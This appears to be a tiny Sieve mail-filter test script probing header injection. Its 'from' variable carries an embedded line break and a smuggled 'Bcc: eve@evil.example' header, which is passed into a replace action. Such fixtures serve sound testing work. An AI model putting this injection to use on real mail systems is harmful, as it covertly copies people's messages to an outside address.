require ["replace", "variables"];
set "from" "a@b.example
Bcc: eve@evil.example";
replace :from "${from}" "x";
